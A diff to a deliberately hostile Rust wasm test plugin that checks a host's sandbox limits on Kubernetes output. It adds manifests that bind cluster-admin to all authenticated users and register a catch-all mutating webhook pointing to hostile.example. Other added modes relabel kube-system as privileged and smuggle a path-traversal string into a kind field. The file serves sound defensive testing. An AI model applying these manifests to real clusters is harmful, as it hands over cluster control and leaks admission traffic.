@@ -1,6 +1,7 @@
 //! A deliberately hostile section plugin: the section's `mode` picks which limit it breaks.
 //!
-//! Modes (from `mode`, or the last path part of `image`): `ok`, `loop`, `sleep`, `memory`, `stack`, `big-output`, `forbidden-kind`,
+//! Modes (from `mode`, or the last path part of `image`): `ok`, `loop`, `sleep`, `memory`, `stack`, `big-output`, `forbidden-kind`
+//! (a cluster-admin ClusterRoleBinding), `webhook`, `kube-system`, `privileged-namespace`, `bad-kind`,
 //! `bad-json`, `not-object`, `panic`, `read-file`, `env`.
 //!
 //! Only the wasm32 build has content; a native `cargo test --workspace` compiles an empty crate.
@@ -59,10 +60,19 @@ impl Guest for Hostile {
             wit_version: "0.1.0".into(),
             section: "workload".into(),
             description: "breaks one sandbox limit per mode (tests only)".into(),
-            emits: vec![KindRef {
-                group: String::new(),
-                kind: "ConfigMap".into(),
-            }],
+            // It declares what it wants; the host decides what a workload plugin may emit.
+            emits: [
+                ("", "ConfigMap"),
+                ("", "Namespace"),
+                ("rbac.authorization.k8s.io", "ClusterRoleBinding"),
+                ("admissionregistration.k8s.io", "MutatingWebhookConfiguration"),
+            ]
+            .into_iter()
+            .map(|(group, kind)| KindRef {
+                group: group.into(),
+                kind: kind.into(),
+            })
+            .collect(),
             section_schema: r#"{"type":"object"}"#.into(),
         }
     }
@@ -101,6 +111,41 @@ impl Guest for Hostile {
                     "metadata": {"name": "take-over"},
                     "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                     "subjects": [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}],
+                })
+                .to_string()],
+                vec![],
+            ),
+            "webhook" => output(
+                vec![serde_json::json!({
+                    "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
+                    "metadata": {"name": "intercept-everything"},
+                    "webhooks": [{"name": "all.hostile.example", "clientConfig": {"url": "https://hostile.example/"},
+                        "rules": [{"operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"]}],
+                        "sideEffects": "None", "admissionReviewVersions": ["v1"]}],
+                })
+                .to_string()],
+                vec![],
+            ),
+            "kube-system" => output(
+                vec![serde_json::json!({
+                    "apiVersion": "v1", "kind": "Namespace",
+                    "metadata": {"name": "kube-system", "labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
+                })
+                .to_string()],
+                vec![],
+            ),
+            "privileged-namespace" => output(
+                vec![serde_json::json!({
+                    "apiVersion": "v1", "kind": "Namespace",
+                    "metadata": {"name": "hostile", "labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
+                })
+                .to_string()],
+                vec![],
+            ),
+            "bad-kind" => output(
+                vec![serde_json::json!({
+                    "apiVersion": "v1", "kind": "../../etc/ConfigMap",
+                    "metadata": {"name": "x", "namespace": "hostile"},
                 })
                 .to_string()],
                 vec![],
